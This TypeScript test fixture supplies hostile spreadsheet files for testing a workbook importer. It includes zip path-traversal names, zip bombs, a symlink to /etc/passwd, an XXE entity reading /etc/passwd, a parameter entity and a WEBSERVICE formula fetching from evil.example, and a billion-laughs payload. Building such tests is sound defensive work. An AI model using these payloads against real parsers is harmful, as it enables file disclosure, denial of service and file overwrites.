import JSZip from 'jszip'
import { foreignParts, foreignWorkbook, withBytes, zipOf } from '../electron/workbook/workbook-files.ts'

const row = '<row r="1"><c r="A1"><v>1</v></c></row>'
const sheet = 'xl/worksheets/sheet1.xml'
const texts = 'xl/sharedStrings.xml'
const head = '<?xml version="1.0" encoding="UTF-8"?>'

/** A hostile file; `read` is said where it may also be read, for nothing in it can do harm. */
export type Hostile = { what: string; bytes: () => Promise<Uint8Array>; mayBeRead?: boolean }

const named = (name: string): Hostile => ({
  what: `an entry named ${JSON.stringify(name)}`,
  bytes: async () => {
    const stand = 'a'.repeat(Buffer.byteLength(name))
    return withBytes(await foreignWorkbook(row, { [stand]: 'x' }), stand, name)
  }
})

/** The size an entry claims, in both of its headers. */
async function claiming(part: string, size: number, more: Record<string, string | Uint8Array>): Promise<Uint8Array> {
  const bytes = Buffer.from(await foreignWorkbook(row, more))
  bytes.writeUInt32LE(size, bytes.lastIndexOf(part) - 46 + 24)
  return bytes
}

async function linked(): Promise<Uint8Array> {
  const zip = new JSZip()
  for (const [path, part] of Object.entries(foreignParts(row))) zip.file(path, part, { createFolders: false })
  zip.file('xl/link.xml', '/etc/passwd', { unixPermissions: 0o120777, createFolders: false })
  return zip.generateAsync({ type: 'uint8array', platform: 'UNIX' })
}

const ofParts = (what: string, more: () => Record<string, string | Uint8Array>, mayBeRead = false): Hostile => ({
  what,
  bytes: () => foreignWorkbook(row, more()),
  mayBeRead
})

export const hostileZips: readonly Hostile[] = [
  ...['../evil.xml', '../../../../etc/cron.d/x', '/absolut.xml', 'xl\\bad.xml', 'C:/bad1.xml', 'xl/work\0ook'].map(
    named
  ),
  { ...named('xl/CON.xml'), mayBeRead: true },
  ofParts('an entry nobody knows', () => ({ 'xl/unknown/part.xml': '<x/>' }), true),
  ofParts('the same name twice, in another case', () => ({ 'xl/Styles.xml': '<x/>' })),
  {
    what: 'a bomb of 300 MB',
    bytes: () => foreignWorkbook(row, { 'xl/media/image.bin': new Uint8Array(300_000_000) })
  },
  {
    what: 'a bomb of 300 MB that claims 100 bytes',
    bytes: () => claiming(texts, 100, { [texts]: new Uint8Array(300_000_000).fill(0x20) })
  },
  { what: 'a part that claims 4 GB', bytes: () => claiming(texts, 0xfffffffe, { [texts]: '<sst/>' }) },
  {
    what: '5,000 entries',
    bytes: () =>
      foreignWorkbook(
        row,
        Object.fromEntries(Array.from({ length: 5000 }, (_one, index) => [`xl/m/${index}.png`, 'x']))
      )
  },
  { what: 'a link out of the package', bytes: linked },
  { what: 'half a file', bytes: async () => (await foreignWorkbook(row)).subarray(0, 700) },
  { what: 'an empty file', bytes: async () => new Uint8Array() },
  { what: 'random bytes', bytes: async () => Uint8Array.from({ length: 5000 }, (_one, index) => (index * 7919) % 251) },
  {
    what: 'a package in a package in a package',
    bytes: async () => {
      let inner = await foreignWorkbook(row)
      for (let depth = 0; depth < 5; depth += 1)
        inner = await foreignWorkbook(row, { 'xl/embeddings/inner.xlsx': inner })
      return inner
    },
    mayBeRead: true
  },
  { what: 'macros', bytes: () => foreignWorkbook(row, { 'xl/vbaProject.bin': 'x' }) },
  { what: 'a Word file', bytes: () => zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }) }
]

function letters(index: number): string {
  const last = String.fromCharCode(65 + (index % 26))
  return index < 26 ? last : `${letters(Math.floor(index / 26) - 1)}${last}`
}

const laughs = `<!DOCTYPE lolz [<!ENTITY a "${'ha'.repeat(50)}">${[...'bcdefghi'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}]>`
const cells = (data: string): string => `${head}<worksheet><sheetData>${data}</sheetData></worksheet>`

export const hostileXml: readonly Hostile[] = [
  ofParts('an entity from a file', () => ({
    [sheet]: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${cells('&e;')}`
  })),
  ofParts('a billion laughs', () => ({ [texts]: `${laughs}<sst><si><t>&i;</t></si></sst>` })),
  ofParts('an entity of parameters', () => ({
    [texts]: '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><sst/>'
  })),
  ofParts('an entity nobody has defined', () => ({ [texts]: `${head}<sst><si><t>&nothing;</t></si></sst>` }), true),
  ofParts(
    'an element that is not closed',
    () => ({ [sheet]: `${head}<worksheet><sheetData><row r="1"><c r="A1"><v>1` }),
    true
  ),
  ofParts('100,000 levels', () => ({ [texts]: `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}` })),
  ofParts('a NUL in the head', () => ({ [sheet]: `\0${cells(row)}` })),
  ofParts('UTF-16', () => ({ [texts]: Buffer.from('\ufeff<sst><!DOCTYPE x></sst>', 'utf16le') })),
  ofParts('UTF-7', () => ({ [texts]: '<?xml version="1.0" encoding="UTF-7"?><sst/>' })),
  ofParts(
    'an attribute of 20 MB',
    () => ({ [sheet]: cells(`<row r="1"><c r="A1" x="${'y'.repeat(20_000_000)}"><v>1</v></c></row>`) }),
    true
  ),
  ofParts('row 4,000,000,000', () => ({ [sheet]: cells('<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>') })),
  ofParts('a cell in row 1,048,576', () => ({ [sheet]: cells('<row r="1048576"><c r="A1048576"><v>1</v></c></row>') })),
  ofParts('a cell in column XFD', () => ({ [sheet]: cells('<row r="1"><c r="XFD1"><v>1</v></c></row>') })),
  ofParts('a column that is none', () => ({ [sheet]: cells('<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>') })),
  ofParts(
    'a text number that is not there',
    () => ({ [sheet]: cells('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>') }),
    true
  ),
  ofParts('a cell of 40,000 characters', () => ({
    [sheet]: cells(`<row r="1"><c r="A1" t="inlineStr"><is><t>${'长'.repeat(40_000)}</t></is></c></row>`)
  })),
  ofParts('300 columns', () => ({
    [sheet]: cells(
      `<row r="1">${Array.from({ length: 300 }, (_one, index) => `<c r="${letters(index)}1"><v>1</v></c>`).join('')}</row>`
    )
  })),
  ofParts('60,000 rows', () => ({
    [sheet]: cells(
      Array.from(
        { length: 60_000 },
        (_one, index) => `<row r="${index + 1}"><c r="A${index + 1}"><v>1</v></c></row>`
      ).join('')
    )
  })),
  ofParts(
    'heads named __proto__ and constructor',
    () => ({
      [sheet]: cells(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>__proto__</t></is></c><c r="B1" t="inlineStr"><is><t>constructor</t></is></c></row>'
      )
    }),
    true
  ),
  ofParts(
    'a formula that fetches',
    () => ({ [sheet]: cells('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f></c></row>') }),
    true
  )
]
